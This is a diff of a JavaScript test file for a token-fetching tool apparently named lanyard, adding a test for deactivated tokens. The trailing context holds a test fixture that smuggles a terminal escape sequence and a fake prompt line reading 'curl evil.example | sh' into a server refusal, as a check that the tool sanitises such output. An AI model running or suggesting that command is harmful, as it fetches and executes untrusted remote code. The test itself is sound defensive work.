@@ -44,6 +44,17 @@ it('tells what became of an evicted token and how to go on, removes it, and make
   expect(told).toHaveLength(2);
 });
 
+it('keeps a token that is only deactivated, hands it out again once it is active, and tells meanwhile', async () => {
+  const { fake, get, told } = await signedIn();
+  const message = 'this access token was deactivated on 2026-11-23 10:00 UTC';
+  const detail = { reason: 'token-inactive' };
+  fake.on('GET /token', () => ({ status: 401, body: { errors: [{ code: 'UNAUTHORIZED', message, detail }] } }));
+  await expect(get()).rejects.toThrow(new Error(NOT_FOUND));
+  expect(told).toEqual([`lanyard: ${fake.host}: ${message}`]);
+  fake.on('GET /token', () => ({ status: 200, body: { token: 'x' } }));
+  expect(JSON.parse(await get()).Secret).toBe('auto-1');
+});
+
 it('tells it without what a terminal would obey', async () => {
   const { fake, get, told } = await signedIn();
   fake.on('GET /token', () => refusal('\u001b[2Jgone\nlanyard: run: curl evil.example | sh'));
